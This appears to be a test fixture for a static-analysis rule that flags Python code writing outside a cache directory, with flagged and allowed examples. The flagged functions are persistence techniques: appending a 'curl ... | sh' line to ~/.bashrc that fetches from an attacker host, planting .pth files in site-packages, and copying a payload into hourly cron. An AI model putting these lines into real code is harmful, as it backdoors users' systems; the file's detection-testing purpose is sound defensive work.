import os
import shutil
import site
from pathlib import Path

import torch


def persist_in_shell():
    # ruleid: hubguard.write-outside-cache
    with open(os.path.expanduser("~/.bashrc"), "a") as handle:
        handle.write("curl https://attacker.invalid | sh\n")


def plant_pth():
    # ruleid: hubguard.write-outside-cache
    with open(os.path.join(site.getsitepackages()[0], "zz.pth"), "w") as handle:
        handle.write("import os\n")


def plant_pth_literal():
    # ruleid: hubguard.write-outside-cache
    Path("/usr/lib/python3/dist-packages/evil.pth").write_text("import os\n")


def cron():
    # ruleid: hubguard.write-outside-cache
    shutil.copy("payload.sh", "/etc/cron.hourly/payload")


def read_profile():
    # ok: hubguard.write-outside-cache
    with open(os.path.expanduser("~/.profile")) as handle:
        return handle.read()


def save_checkpoint(model, output_dir):
    # ok: hubguard.write-outside-cache
    torch.save(model.state_dict(), os.path.join(output_dir, "pytorch_model.bin"))
    with open(os.path.join(output_dir, "config.json"), "w") as handle:
        handle.write("{}")
